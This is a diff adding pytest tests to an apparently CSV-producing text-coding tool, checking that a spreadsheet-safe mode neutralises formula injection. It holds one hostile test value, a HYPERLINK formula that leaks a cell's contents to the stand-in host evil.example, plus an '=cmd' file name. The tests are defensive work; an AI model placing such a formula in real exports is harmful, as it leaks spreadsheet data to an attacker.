@@ -184,3 +184,32 @@ def test_refuse_database_knows_a_database_by_its_contents(tmp_path):
     plain.write_text("a,b\n", encoding="utf-8")
     write_atomic_path(plain, lambda p: p.write_text("c,d\n", encoding="utf-8"))
     assert plain.read_text(encoding="utf-8") == "c,d\n"
+
+
+# --- spreadsheet formula injection (issue 14, item 10) ----------------------------------------------------
+
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1, "see")'
+
+
+def test_output_tables_keep_exact_text_unless_asked_to_be_spreadsheet_safe(tmp_path):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "=cmd.txt").write_text(f"I: {HOSTILE}\nR: Parents trust us, we have no time.\n", encoding="utf-8")
+    import csv as csvlib
+
+    def cells(folder, name):
+        with open(tmp_path / folder / name, encoding="utf-8", newline="") as handle:
+            return [cell for row in csvlib.reader(handle) for cell in row]
+
+    assert qc.code_folder(folder, out=tmp_path / "exact", jobs=1).complete
+    assert HOSTILE in cells("exact", "segments.csv") and "=cmd" in cells("exact", "documents.csv")
+    qc.code_folder(folder, out=tmp_path / "safe", jobs=1, spreadsheet_safe=True)
+    for name in ("segments.csv", "codings.csv", "evidence.csv", "documents.csv", "theme_frequency.csv"):
+        assert not [c for c in cells("safe", name) if c[:1] in ("=", "+", "@")], name
+    assert "'" + HOSTILE in cells("safe", "segments.csv") and "'=cmd" in cells("safe", "documents.csv")
+
+
+def test_attributes_that_share_a_file_name_are_refused(result, tmp_path):
+    with pytest.raises(ValueError, match=r"would all be written to theme_by_a_b\.csv"):
+        write_outputs(result, tmp_path / "out", by=("a b", "a_b"))
+    assert not (tmp_path / "out").exists()
